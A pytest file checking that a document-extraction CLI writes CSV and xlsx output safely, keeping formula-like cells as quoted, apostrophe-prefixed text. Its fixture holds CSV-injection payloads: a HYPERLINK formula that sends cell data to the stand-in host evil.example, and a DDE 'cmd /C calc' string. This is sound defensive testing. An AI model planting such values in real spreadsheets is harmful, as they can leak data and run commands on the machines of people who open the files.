"""Document text reaches every spreadsheet as text (issue 14, defect 2) and list columns are joined with 、 (issue 19, 3).

A hostile document names units and measures that a spreadsheet would run as formulas;
every CSV and workbook the commands write must hold them as text: CSV cells quoted with
the OWASP ``'`` prefix, xlsx cells typed as strings. LibreOffice, opening the CSV the
way a planner would, must find no formula in it.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.support.cli_runner import ok as invoke

HOSTILE = (
    "2021年长兴县营商环境任务清单\n\n说明：责任单位中排在第一位的为牵头单位。\n\n"
    "序号\t工作任务\t责任单位\t完成时限\n"
    '1\t=HYPERLINK("http://evil.example/?d="&A1,"点此")\t@SUM(1+1)、县公安局\t6月底\n'
    "2\t+cmd|' /C calc'!A0\t-县司法局、县市场监管局\t长期坚持\n"
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture()
def hostile(tmp_path) -> Path:
    path = tmp_path / "evil.txt"
    path.write_text(HOSTILE, encoding="utf-8")
    return path


def _csv_cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def _assert_csv_safe(path: Path) -> None:
    text = path.read_text(encoding="utf-8-sig")
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (path.name, cell)


def _assert_xlsx_has_no_formula(path: Path) -> None:
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate, cell.value)


def test_extract_csv_writes_formulas_as_quoted_text_and_lists_with_the_enumeration_comma(hostile, tmp_path):
    out = tmp_path / "rows.csv"
    invoke("extract", str(hostile), "--format", "csv", "-o", str(out))
    _assert_csv_safe(out)
    raw = out.read_text(encoding="utf-8")
    assert '"\'=HYPERLINK(""http://evil.example/?d=""&A1,""点此"")"' in raw  # quoted, prefixed, the text whole
    rows = list(csv.DictReader(io.StringIO(raw)))
    assert rows[1]["measure"] == "'+cmd|' /C calc'!A0"
    assert rows[1]["lead"] == "'-县司法局" and rows[0]["responsible"] == "县公安局"
    assert "[" not in raw  # list columns are not JSON arrays
    assert rows[1]["responsible_ids"] == "330522/市场监督管理局"


def test_json_keeps_lists_as_arrays(hostile):
    records = [json.loads(line) for line in invoke("extract", str(hostile)).stdout.splitlines()]
    assert records[0]["measure"].startswith("=HYPERLINK(")  # JSON is data, not a spreadsheet: unchanged
    assert isinstance(records[0]["lead"], list)


def test_extract_xlsx_stores_text_never_a_formula(hostile, tmp_path):
    out = tmp_path / "rows.xlsx"
    invoke("extract", str(hostile), "--format", "xlsx", "-o", str(out))
    _assert_xlsx_has_no_formula(out)
    sheet = load_workbook(out).active
    measures = [row[5].value for row in sheet.iter_rows(min_row=2)]
    assert measures == ['=HYPERLINK("http://evil.example/?d="&A1,"点此")', "+cmd|' /C calc'!A0"]
    assert sheet["F2"].quotePrefix  # Excel keeps it text when the cell is edited


def test_every_spreadsheet_of_a_run_holds_text(hostile, tmp_path):
    out = tmp_path / "out"
    invoke("run", str(hostile), "-o", str(out))
    csvs = [out / "rows.csv", out / "agencies.csv", *sorted((out / "report").glob("*.csv")),
            *sorted((out / "neo4j").glob("*.csv")), *sorted((out / "queries").glob("*.csv"))]
    assert len(csvs) > 15
    for path in csvs:
        _assert_csv_safe(path)
    _assert_xlsx_has_no_formula(out / "report" / "workload.xlsx")
    agencies = list(csv.DictReader(io.StringIO((out / "agencies.csv").read_text(encoding="utf-8-sig"))))
    assert {a["surface_names"] for a in agencies} >= {"'@SUM", "'-县司法局"}
    measures = _csv_cells(out / "report" / "measures.csv")
    assert any(cell == "'+cmd|' /C calc'!A0" for row in measures for cell in row)


def test_agencies_csv_on_stdout_joins_surface_names(hostile):
    rows = list(csv.DictReader(io.StringIO(invoke("agencies", str(hostile), "--format", "csv").stdout)))
    assert "'-县司法局" in {r["surface_names"] for r in rows}


def _office() -> str | None:
    return shutil.which("libreoffice") or shutil.which("soffice")


@pytest.mark.skipif(_office() is None, reason="LibreOffice is not installed (Debian package libreoffice-calc)")
def test_libreoffice_opens_rows_csv_without_a_formula(hostile, tmp_path):
    out = tmp_path / "rows.csv"
    invoke("extract", str(hostile), "--format", "csv", "-o", str(out))
    subprocess.run([_office(), "--headless", f"-env:UserInstallation=file://{tmp_path}/lo", "--convert-to", "xlsx",
                    "--outdir", str(tmp_path / "lo-out"), str(out)], check=True, capture_output=True, timeout=180)
    _assert_xlsx_has_no_formula(tmp_path / "lo-out" / "rows.xlsx")
